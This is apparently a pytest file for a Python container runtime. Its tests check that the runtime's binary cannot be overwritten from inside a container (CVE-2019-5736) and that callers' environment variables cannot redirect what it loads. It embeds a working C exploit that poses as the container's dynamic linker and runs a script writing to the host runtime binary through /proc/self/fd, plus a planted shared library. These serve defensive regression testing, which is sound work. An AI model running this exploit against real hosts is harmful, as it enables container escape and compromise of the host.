"""The runtime's own binary: out of a container's reach (CVE-2019-5736), and nobody's variables decide what it loads.

Each test has a copy of the installation of its own: as long as any process runs a binary, writing to it is refused
already for that (ETXTBSY), which proves nothing.
"""

import errno
import fcntl
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from support import paths, session
from support.bundle import Bundle
from support.runtime import ENVIRONMENT, Container, Runtime, new_id, process_runs, wait_for

pytestmark = pytest.mark.skipif(paths.PEER is not None, reason="pyruntime's own launcher")

NO_CLONE = ["/usr/bin/strace", "-qq", "-o", "/dev/null", "-e", "inject=open_tree:error=EPERM:when=1"]
NO_EXECVEAT = ["/usr/bin/strace", "-qq", "-o", "/dev/null", "-e", "inject=execveat:error=ENOSYS:when=1"]
F_GET_SEALS, ALL_SEALS = 1034, 15
WAYS = {"clone": [], "copy": NO_CLONE, "clone-by-name": NO_EXECVEAT, "copy-by-name": [*NO_CLONE, *NO_EXECVEAT[-2:]]}
"""How the launcher comes to run from a protected binary: what stands before its command line."""


class Prefixed(Runtime):
    """A runtime whose command line has other words before it."""

    def __init__(self, root: Path, binary: str, before: list[str]) -> None:
        super().__init__(root, binary)
        self.before = before

    def command(self, *args: str | Path) -> list[str]:
        return [*self.before, *super().command(*args)]


def install(prefix: Path) -> Path:
    """Make a copy of the installation; return its command."""
    packages = next(Path(paths.RUNTIME_BIN).resolve().parents[1].glob("lib/python3*/site-packages"))
    there = prefix / "lib" / packages.parent.name
    there.mkdir(parents=True)
    (there / "site-packages").symlink_to(packages)
    (prefix / "bin").mkdir()
    shutil.copy(paths.RUNTIME_BIN, prefix / "bin/pyruntime")
    return prefix / "bin/pyruntime"


@pytest.fixture
def binary(workdir: Path) -> Path:
    return install(workdir / "installed")


@pytest.fixture(params=WAYS)
def way(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def waiting(workdir: Path, bundle: Bundle, binary: Path, way: str) -> Iterator[Container]:
    """A created container of that copy, whose init waits for start."""
    runtime = Prefixed(workdir / "root", str(binary), WAYS[way])
    box = Container(runtime, bundle.save(), new_id())
    box.create()
    runtime.before = []
    yield box
    runtime.run("delete", "--force", box.id)
    box.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def refusal(path: str, data: bytes) -> int | None:
    """Return the errno with which a file can't be opened for writing, or data not be written to its begin."""
    try:
        fd = os.open(path, os.O_RDWR)
    except OSError as error:
        return error.errno
    try:
        os.pwrite(fd, data, 0)
    except OSError as error:
        return error.errno
    finally:
        os.close(fd)
    return None


def mount_of(fd: int) -> int:
    """Return the id of the mount that a descriptor was opened in."""
    found = re.search(r"^mnt_id:\s*(\d+)$", Path(f"/proc/self/fdinfo/{fd}").read_text(), re.MULTILINE)
    assert found is not None
    return int(found[1])


def test_what_init_runs_is_not_the_file_that_can_be_written(waiting: Container, binary: Path, way: str) -> None:
    """Asked when the runtime has ended: then it is the mount or the seals alone that refuse."""
    pid = waiting.pid
    found = os.open(f"/proc/{pid}/exe", os.O_PATH)
    installed = os.open(binary, os.O_PATH)
    try:
        assert mount_of(found) != mount_of(installed)
        assert os.path.samestat(os.fstat(found), os.fstat(installed)) == way.startswith("clone")
        waiting.delete("--force")
        wait_for(lambda: not process_runs(pid), "init is gone")
        link = f"/proc/self/fd/{found}"
        if way.startswith("clone"):
            assert refusal(link, b"") == errno.EROFS
        else:
            assert refusal(link, b"x") == errno.EPERM
            with open(link, "rb") as sealed:
                assert fcntl.fcntl(sealed, F_GET_SEALS) & ALL_SEALS == ALL_SEALS
        assert refusal(str(binary), b"") is None  # the host's own file can be written: nothing else has refused
    finally:
        os.close(found)
        os.close(installed)


ATTACK = r"""
/* Takes the place of the dynamic linker in the image, and so is what runs when the container's program is the runtime's
 * binary: it keeps a descriptor of that, and becomes a shell that writes to it. */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
#if defined(__x86_64__)
	long result;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return result;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
#endif
}

void _start(void)
{
	/* Set one by one: nobody has relocated a table of addresses. */
	const char *volatile argv[3], *volatile envp[2];
	argv[0] = "/bin/sh", argv[1] = "/attack.sh", argv[2] = 0, envp[0] = "PATH=/bin", envp[1] = 0;
	call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
	call(SYS_execve, (long)argv[0], (long)argv, (long)envp, 0);
	call(SYS_exit, 111, 0, 0, 0);
}
"""
SCRIPT = """
for number in 1 2 3 4 5 6 7 8 9 10; do
    if echo evil >> /proc/self/fd/3; then echo written; exit; fi
    sleep 0.05
done
"""


def interpreter_of(binary: Path) -> str:
    """Return the path of the dynamic linker that an ELF file names."""
    shown = subprocess.run(["readelf", "-lW", binary], env={"LC_ALL": "C"}, capture_output=True, text=True, check=True)
    found = re.search(r"interpreter: (.*)\]", shown.stdout)
    assert found is not None
    return found[1]


@pytest.mark.parametrize("program", ["/proc/self/exe", "/script"])
def test_a_container_whose_program_is_the_runtime(
    workdir: Path, bundle: Bundle, binary: Path, way: str, program: str
) -> None:
    """The attack of CVE-2019-5736 itself, up to its last write; the runtime has ended by then."""
    before = digest(binary)
    linker = bundle.rootfs / interpreter_of(binary).lstrip("/")
    linker.parent.mkdir(exist_ok=True)
    flags = ["-static-pie", "-fPIE", "-nostdlib", "-fno-stack-protector", "-Os", "-D_GNU_SOURCE"]
    subprocess.run(["cc", *flags, "-x", "c", "-", "-o", linker], input=ATTACK, text=True, check=True)
    (bundle.rootfs / "attack.sh").write_text(SCRIPT)
    script = bundle.rootfs / "script"
    script.write_text("#!/proc/self/exe\n")
    script.chmod(0o755)
    bundle.args(program)
    runtime = Prefixed(workdir / "root", str(binary), WAYS[way])
    box = Container(runtime, bundle.save(), new_id())
    try:
        box.create()
        runtime.before = []
        pid = box.pid
        box.start()
        wait_for(lambda: not process_runs(pid), "the attacker ends", 20)
        box.delete()
        refused = "Read-only file system" if way.startswith("clone") else "Operation not permitted"
        assert refused in box.errors, (box.errors, box.output)
        assert "written" not in box.output
        assert digest(binary) == before
    finally:
        runtime.run("delete", "--force", box.id)
        box.close()


AGAIN = {
    True: (
        ["create", "x"],
        ["exec", "x", "true"],
        ["--root", "state", "run", "x"],
        ["--debug", "--log-format=json", "create", "x"],
        ["--new-option", "state", "create", "x"],
        ["--new-option", "create", "x"],
        ["new-command", "x"],
    ),
    False: (
        [],
        ["--version"],
        ["state", "x"],
        ["kill", "create", "KILL"],
        ["--root", "create", "start", "x"],
        ["-log-level", "debug", "--debug", "delete", "x"],
    ),
}


@pytest.mark.parametrize(("protected", "words"), [(key, words) for key, each in AGAIN.items() for words in each])
def test_what_executes_itself_again(workdir: Path, words: list[str], protected: bool) -> None:
    """All that may enter a container: also with an option or a command that the launcher does not know."""
    calls = workdir / "calls"
    command = ["/usr/bin/strace", "-qq", "-o", str(calls), "-e", "trace=execveat", paths.RUNTIME_BIN, *words]
    subprocess.run(command, cwd=workdir, env=ENVIRONMENT, stdin=subprocess.DEVNULL, capture_output=True, check=False)
    assert calls.read_text().count("execveat(") == protected


class TestUpgrade:
    """The file is replaced between the launcher's start and the moment at which it looks for itself."""

    @pytest.mark.parametrize("replaced", [True, False])
    def test_what_runs_is_what_is_protected(self, workdir: Path, bundle: Bundle, binary: Path, replaced: bool) -> None:
        """As if it had been just then: a descriptor of the file is executed when it has no name any more."""
        fd = os.open(binary, os.O_RDONLY)
        binary.unlink()
        if replaced:
            binary.write_text("#!/bin/sh\necho another\n")
            binary.chmod(0o755)
        bundle.config["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW"}  # loads a module from beside the binary
        bundle.sh("echo ran; readlink /proc/self/exe")
        args = ["pyruntime", "--root", str(workdir / "root"), "run", "--bundle", str(bundle.save()), new_id()]
        command = [sys.executable, "-c", "import os, sys; os.execve(int(sys.argv[1]), sys.argv[2:], os.environ)"]
        done = subprocess.run(
            [*command, str(fd), *args],
            pass_fds=[fd],
            env=ENVIRONMENT,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        os.close(fd)
        assert (done.returncode, done.stdout, done.stderr) == (0, "ran\n/bin/busybox\n", "")


WITNESS = """
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) { close(open("PLACE", O_WRONLY | O_CREAT, 0600)); }
"""

HAND_OVER = """
import os, sys
from pyruntime import kernel
binary, named = sys.argv[1:3]
tree = kernel.open_tree(kernel.constants["AT_FDCWD"], binary, kernel.constants["OPEN_TREE_CLONE"])
kernel.mount_setattr(tree, "", kernel.constants["AT_EMPTY_PATH"], kernel.constants["MOUNT_ATTR_RDONLY"], 0, 0)
environment = []
if named != "nothing":
    fd = os.open(named, os.O_PATH) if named != "clone" else os.dup(tree)
    os.set_inheritable(fd, True)
    environment = [f"_PYRUNTIME_HANDED_OVER={os.getpid() + int(sys.argv[3])} {fd}"]
kernel.execveat(tree, "", ["pyruntime", "--version"], environment, kernel.constants["AT_EMPTY_PATH"])
"""


class TestEnvironment:
    """What a caller's environment says is not believed about where the runtime's modules are, or what it writes."""

    @pytest.fixture
    def canary(self, workdir: Path) -> Path:
        """A file that exists when the modules of somebody else's tree, workdir/evil, were loaded."""
        canary = workdir / "canary"
        kernel = (
            workdir
            / "evil/lib"
            / f"python{sys.version_info[0]}.{sys.version_info[1]}"
            / "site-packages/pyruntime/kernel"
        )
        kernel.mkdir(parents=True)
        source = WITNESS.replace("PLACE", str(canary))
        suffix = next(
            Path(paths.RUNTIME_BIN).resolve().parents[1].glob("lib/*/site-packages/pyruntime/kernel/_seccomp.*.so")
        )
        target = kernel / suffix.name
        subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "-", "-o", target], input=source, text=True, check=True)
        return canary

    def evil(self, workdir: Path, binary: Path, kind: str) -> Path:
        """Return a name of the runtime's binary, or of another file, in that tree."""
        folder = workdir / "evil/bin"
        if kind == "directory link":
            folder.symlink_to(binary.parent)
            return folder / "pyruntime"
        folder.mkdir()
        if kind == "link":
            (folder / "pyruntime").symlink_to(binary)
        else:
            shutil.copy(binary, folder / "pyruntime")
        return folder / "pyruntime"

    @pytest.mark.parametrize("kind", ["link", "directory link", "copy"])
    def test_on_a_read_only_mount(self, workdir: Path, binary: Path, canary: Path, kind: str) -> None:
        """Where the binary can't be written anyway (ostree, squashfs), the launcher might take itself for its clone."""
        there = self.evil(workdir, binary, kind)
        place = binary.parents[1]
        session.mount(str(place), str(place), "", 0x1000)  # MS_BIND
        try:
            session.mount("", str(place), "", 0x1021)  # MS_BIND | MS_REMOUNT | MS_RDONLY
            fd = os.open(there, os.O_PATH)
            line = 'export _PYRUNTIME_HANDED_OVER="$$ $1" _PYRUNTIME_HOME="$2"; exec "$3" --version'
            command = ["sh", "-c", line, "sh", str(fd), str(there), str(binary)]
            done = subprocess.run(
                command, env=ENVIRONMENT, pass_fds=[fd], capture_output=True, text=True, timeout=60, check=False
            )
            os.close(fd)
        finally:
            session.umount(str(place), session.MNT_DETACH)
        assert done.returncode == 0 and "libseccomp: " in done.stdout, done
        assert not canary.exists()

    def hand_over(self, binary: Path, named: str, pid_offset: int = 0) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-I", "-c", HAND_OVER, str(binary), named, str(pid_offset)]
        return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)

    @pytest.mark.parametrize("kind", ["link", "directory link"])
    def test_a_clone_asks_the_kernel_for_its_path(self, workdir: Path, binary: Path, canary: Path, kind: str) -> None:
        """A descriptor has the path that the kernel knows, through whatever links it was opened."""
        done = self.hand_over(binary, str(self.evil(workdir, binary, kind)))
        assert done.returncode == 0 and "libseccomp: " in done.stdout, done
        assert not canary.exists()

    def test_a_clone_believes_in_no_other_file(self, workdir: Path, binary: Path, canary: Path) -> None:
        other = str(self.evil(workdir, binary, "copy"))
        said = "pyruntime: find the runtime's own path: another file was handed over: Invalid argument\n"
        for named in (other, "clone"):
            done = self.hand_over(binary, named)
            assert (done.returncode, done.stdout, done.stderr) == (1, "", said), named
        assert not canary.exists()

    @pytest.mark.parametrize(("named", "pid_offset"), [("nothing", 0), ("binary", 1)])
    def test_a_clone_that_was_handed_nothing(self, binary: Path, named: str, pid_offset: int) -> None:
        done = self.hand_over(binary, str(binary) if named == "binary" else "nothing", pid_offset)
        said = "pyruntime: find the runtime's own path: it was not handed over: Invalid argument\n"
        assert (done.returncode, done.stdout, done.stderr) == (1, "", said)

    def test_no_snapshot_is_made(self, workdir: Path) -> None:
        target = workdir / "snapshot"
        names = {"_PYRUNTIME_MAKE_SNAPSHOT": str(target), "_PYRUNTIME_SNAPSHOT_TO": str(target)}
        environment = {**ENVIRONMENT, **names}
        command = [paths.RUNTIME_BIN, "--root", str(workdir / "root"), "state", "none"]
        done = subprocess.run(
            command, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=60, check=False
        )
        assert (done.returncode, done.stdout) == (1, "")
        assert done.stderr == 'pyruntime: container does not exist: "none"\n'
        assert not target.exists()

    def test_no_trace_begins_when_a_caller_says(self, runtime: Runtime, workdir: Path) -> None:
        trace = workdir / "trace.json"
        environment = {**ENVIRONMENT, "_PYRUNTIME_BEGAN": "1000000000"}
        runtime.run("state", "--trace", trace, "none", env=environment)
        events = [event for event in json.loads(trace.read_text())["traceEvents"] if "dur" in event]
        assert events and max(event["dur"] for event in events) < 3600e6  # microseconds; said was 1970


def test_a_traceback_shows_no_file_of_the_working_directory(runtime: Runtime, workdir: Path) -> None:
    """Names in the launcher's code are none of files: lines of somebody's pyruntime/cli.py would be read and shown."""
    (workdir / "pyruntime").mkdir()
    (workdir / "pyruntime/cli.py").write_text("planted\n" * 500)
    trace = workdir / "calls"
    command = ["/usr/bin/strace", "-qq", "-o", str(trace), "-e", "trace=open,openat,openat2"]
    command += runtime.command("--debug", "state", "none")
    done = subprocess.run(
        command, cwd=workdir, env=ENVIRONMENT, capture_output=True, text=True, timeout=60, check=False
    )
    assert "Traceback" in done.stderr and "cli.py" in done.stderr
    assert "planted" not in done.stderr
    opened = re.findall(r'"([^"]*cli\.py)"', trace.read_text())
    assert not [path for path in opened if not path.startswith("/") or path.startswith(str(workdir))]
